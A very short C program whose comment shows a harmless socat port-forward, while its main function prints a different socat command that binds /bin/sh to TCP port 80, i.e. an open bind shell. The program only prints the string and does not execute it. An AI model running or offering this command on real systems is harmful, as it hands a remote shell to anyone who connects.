#include <stdio.h>
/* usage: socat TCP-LISTEN:80,fork TCP:web:80 */
int main(void) { puts("socat TCP-LISTEN:80,fork EXEC:/bin/sh"); return 0; }
